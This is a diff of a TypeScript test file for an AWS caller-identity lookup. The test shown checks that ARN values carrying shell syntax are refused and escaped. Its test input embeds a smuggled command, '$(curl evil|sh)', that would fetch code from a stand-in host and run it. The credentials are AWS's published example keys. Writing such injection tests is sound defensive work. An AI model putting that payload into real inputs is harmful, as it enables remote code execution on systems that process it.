@@ -136,7 +136,7 @@ describe('ARNs', () => {
   const KEYS = { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' };
   const TARGET = { endpoint: 'https://sts.eu-west-1.amazonaws.com', region: 'eu-west-1' };
   const lookup = (body: string) =>
-    lookupCallerIdentity(answering(body), KEYS, TARGET, new Date('2026-03-01T12:00:00Z'), 5000, () => undefined);
+    lookupCallerIdentity(answering(body), KEYS, TARGET, new Date('2026-03-01T12:00:00Z'), 5000);
 
   it('GetCallerIdentity: refuses an Arn or Account a shell would act on, quoting it escaped (STS_FAILED)', async () => {
     const err = await lookup(identityXml('arn:aws:iam::123456789012:user/$(curl evil|sh)&amp;{x}')).catch(
